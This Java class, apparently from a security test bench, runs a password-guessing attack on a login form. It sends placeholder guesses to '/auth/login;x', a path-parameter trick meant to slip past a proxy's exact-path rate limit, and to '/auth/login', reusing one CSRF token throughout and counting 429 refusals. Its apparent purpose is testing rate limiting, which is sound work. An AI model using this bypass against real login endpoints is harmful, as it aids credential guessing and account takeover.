package dev.carafe.bench.hostile;

import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;

/**
 * Guesses a user's password through the login form, 31 times at {@code /auth/login;x} (a path
 * parameter, which a server may route to the form while a proxy's exact-path rule does not see it),
 * then 31 times at {@code /auth/login}. A guess is checked when the form answers with its
 * "Incorrect username or password" message; 429 is a guess refused.
 */
final class LoginGuessing implements Attack {
  static final int TRIES = 31;
  private static final String WRONG = "Incorrect username or password.";

  @Override
  public Outcome run(Context context) throws Exception {
    Visitor visitor = new Visitor(context.target());
    // Any token of the session verifies, so one serves every guess.
    String token = visitor.token("/auth/login");
    StringBuilder finding = new StringBuilder();
    long sent = 0;
    for (String path : new String[] {"/auth/login;x", "/auth/login"}) {
      Tally tally = new Tally();
      int checked = 0;
      for (int i = 0; i < TRIES; i++) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("csrf_token", token);
        fields.put("username", context.username());
        fields.put("password", "guess-" + i);
        HttpAnswer answer = visitor.post(path, Visitor.FORM, fields);
        sent++;
        tally.add(answer.status());
        if (answer.status() == 200 && answer.body().contains(WRONG)) {
          checked++;
        }
      }
      finding
          .append(finding.isEmpty() ? "" : "; ")
          .append(
              String.format(
                  Locale.ROOT,
                  "%s: %d of %d guesses checked, %d limited (%s)",
                  path,
                  checked,
                  TRIES,
                  tally.count("429"),
                  tally));
    }
    return new Outcome(sent, finding.toString());
  }
}
